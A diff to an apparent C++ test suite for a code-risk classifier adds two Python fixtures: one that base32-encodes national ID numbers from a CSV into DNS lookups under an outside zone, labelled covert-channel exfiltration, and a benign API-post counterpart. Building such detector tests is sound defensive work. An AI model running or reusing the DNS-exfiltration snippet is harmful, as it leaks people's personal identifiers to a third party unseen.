@@ -205,5 +205,26 @@ TEST(EightiethRoundClasses, AKeyPostedToAnApisTokenEndpointIsAuthentication) {
   for (const auto& c : cases) check(c);
 }
 
+// csv.reader and DictReader give the rows of the file they read: a
+// column of a CSV spelled into DNS labels leaves the machine by DNS.
+TEST(EightiethRoundClasses, CsvRowsCarryTheFilesContents) {
+  const Case cases[] = {
+      {"national ids from a CSV base32-encoded into lookups under a third-party zone", B,
+       "import base64, csv, socket, sys\n"
+       "with open(sys.argv[1], newline='') as fh:\n"
+       "    for row in csv.DictReader(fh):\n"
+       "        label = base64.b32encode(row['national_id'].encode()).decode().rstrip('=').lower()\n"
+       "        socket.getaddrinfo(f\"{label}.{row['id']}.edge.example-cdn.net\", 443)\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"the same rows posted to the screening vendor's API", L,
+       "import csv, sys, requests\n"
+       "with open(sys.argv[1], newline='') as fh:\n"
+       "    for row in csv.reader(fh):\n"
+       "        requests.post('https://api.screening.example.com/v2/orders', json={'id': row[0]}, timeout=30)\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
